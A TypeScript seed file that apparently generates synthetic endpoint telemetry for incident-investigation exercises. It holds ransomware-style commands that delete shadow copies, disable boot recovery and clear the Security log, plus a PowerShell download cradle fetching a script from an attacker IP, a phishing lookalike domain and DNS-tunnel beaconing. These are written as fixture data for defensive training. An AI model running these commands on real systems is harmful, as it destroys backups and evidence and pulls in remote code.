import { HOSTS, USERS } from './identities';
import { ATTACKER_IPS } from './networkAddresses';
import { INVENTORY_COMMAND_LINE, TUNNEL_DOMAIN } from './incidents09to12';
import type { RowContext } from './rowWriter';
import { ADMIN_SCRIPT, CRADLE, CRADLE_COMMAND_LINE, DNS_TUNNEL, PHISH, RANSOM } from './scenarioTimes';
import {
  CMD,
  SVC_BACKUP,
  SYS32,
  acct,
  fileRecord,
  networkRecord,
  processRecord,
  type ProcessSpec,
} from './deviceRecords';

/** The endpoint activity behind incidents 2, 3, 4, 10 and 11. */

export function seedIncidentProcesses(ctx: RowContext): void {
  const { t, append } = ctx;
  const at = t.ago(RANSOM.hoursAgo);
  const srv = HOSTS.fileServer;
  const ransomCommands = [
    [-3, 'net.exe', 'net group "Domain Admins" /domain'],
    [0, 'vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
    [0.5, 'WMIC.exe', 'wmic.exe shadowcopy delete /nointeractive'],
    [1, 'bcdedit.exe', 'bcdedit.exe /set {default} recoveryenabled No'],
    [1.2, 'bcdedit.exe', 'bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures'],
    [1.5, 'wbadmin.exe', 'wbadmin.exe delete catalog -quiet'],
    [2, 'wevtutil.exe', 'wevtutil.exe cl Security'],
  ] as const;
  for (const [offset, fileName, commandLine] of ransomCommands) {
    append(
      'DeviceProcessEvents',
      processRecord(ctx, {
        time: t.plus(at, offset),
        host: srv,
        account: SVC_BACKUP,
        fileName,
        folder: SYS32,
        commandLine,
        parent: CMD,
        integrity: 'High',
      }),
    );
  }

  const cradleAt = t.ago(CRADLE.hoursAgo);
  const word = {
    fileName: 'WINWORD.EXE',
    commandLine: '"WINWORD.EXE" /n "C:\\Users\\patti.fernandez\\Downloads\\Q3_Payment_Remittance.docm"',
    folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
  };
  const cradle: ProcessSpec = {
    time: cradleAt,
    host: HOSTS.pattiWorkstation,
    account: acct(USERS.patti),
    fileName: 'powershell.exe',
    folder: `${SYS32}\\WindowsPowerShell\\v1.0`,
    commandLine: CRADLE_COMMAND_LINE,
    parent: word,
  };
  append('DeviceProcessEvents', processRecord(ctx, cradle));
  const psParent = {
    fileName: 'powershell.exe',
    commandLine: CRADLE_COMMAND_LINE,
    folder: `${SYS32}\\WindowsPowerShell\\v1.0`,
  };
  for (const [offset, fileName, commandLine] of [
    [1.5, 'whoami.exe', 'whoami.exe /all'],
    [2, 'nltest.exe', 'nltest.exe /dclist:contoso.local'],
  ] as const) {
    append(
      'DeviceProcessEvents',
      processRecord(ctx, {
        ...cradle,
        time: t.plus(cradleAt, offset),
        fileName,
        folder: SYS32,
        commandLine,
        parent: psParent,
      }),
    );
  }
  append(
    'DeviceNetworkEvents',
    networkRecord(
      ctx,
      { ...cradle, time: t.plus(cradleAt, 1) },
      { ip: ATTACKER_IPS.cradleC2.address, port: 80, url: 'http://194.26.29.113/a/update.ps1' },
    ),
  );
  append(
    'DeviceFileEvents',
    fileRecord(
      ctx,
      {
        ...cradle,
        time: t.plus(cradleAt, -2),
        parent: {
          fileName: 'msedge.exe',
          commandLine: 'msedge.exe',
          folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
        },
      },
      'Q3_Payment_Remittance.docm',
      'C:\\Users\\patti.fernandez\\Downloads',
      'https://files-share-docs.com/d/Q3_Payment_Remittance.docm',
    ),
  );

  const click = t.ago(PHISH.clickHoursAgo);
  const edge = {
    time: click,
    host: HOSTS.meganLaptop,
    account: acct(USERS.megan),
    fileName: 'msedge.exe',
    folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
    commandLine:
      '"msedge.exe" --single-argument https://micros0ft-billing-portal.com/invoice/view?id=INV-88213&u=megan.bowen',
    parent: {
      fileName: 'OUTLOOK.EXE',
      commandLine: '"OUTLOOK.EXE"',
      folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
    },
  };
  append('DeviceProcessEvents', processRecord(ctx, edge));
  append(
    'DeviceNetworkEvents',
    networkRecord(ctx, edge, {
      ip: ATTACKER_IPS.phishSender.address,
      port: 443,
      url: 'micros0ft-billing-portal.com',
    }),
  );

  const tunnelStart = t.ago(DNS_TUNNEL.startHoursAgo);
  const tunnel: ProcessSpec = {
    time: tunnelStart,
    host: HOSTS.engWorkstation,
    account: acct(USERS.isaiah),
    fileName: 'svchost.exe',
    folder: 'C:\\Users\\isaiah.langer\\AppData\\Local\\Temp',
    commandLine: `"C:\\Users\\isaiah.langer\\AppData\\Local\\Temp\\svchost.exe" --dns ${TUNNEL_DOMAIN} --interval 2`,
    parent: { fileName: 'explorer.exe', commandLine: 'C:\\Windows\\Explorer.EXE', folder: 'C:\\Windows' },
  };
  append('DeviceProcessEvents', processRecord(ctx, tunnel));
  append(
    'DeviceFileEvents',
    fileRecord(
      ctx,
      {
        ...tunnel,
        time: t.plus(tunnelStart, -1),
        parent: {
          fileName: 'msedge.exe',
          commandLine: 'msedge.exe',
          folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
        },
      },
      'svchost.exe',
      'C:\\Users\\isaiah.langer\\AppData\\Local\\Temp',
      'https://github-release-assets.net/dl/tool.zip',
    ),
  );
  const span = (DNS_TUNNEL.startHoursAgo - DNS_TUNNEL.endHoursAgo) * 60;
  for (let i = 0; i < 40; i += 1) {
    const label = `${ctx.prng.hex(32)}.${ctx.prng.hex(6)}.${TUNNEL_DOMAIN}`;
    append(
      'DeviceNetworkEvents',
      networkRecord(
        ctx,
        { ...tunnel, time: t.plus(tunnelStart, (span * i) / 40) },
        { ip: HOSTS.dc.ip, port: 53, url: label, protocol: 'Udp' },
      ),
    );
  }

  const adminAt = t.ago(ADMIN_SCRIPT.hoursAgo);
  append(
    'DeviceProcessEvents',
    processRecord(ctx, {
      time: adminAt,
      host: HOSTS.mgmtServer,
      account: acct(USERS.itAdmin),
      fileName: 'powershell.exe',
      folder: `${SYS32}\\WindowsPowerShell\\v1.0`,
      commandLine: INVENTORY_COMMAND_LINE,
      parent: {
        fileName: 'svchost.exe',
        commandLine: 'svchost.exe -k netsvcs -p -s Schedule',
        folder: SYS32,
      },
      integrity: 'High',
    }),
  );
}
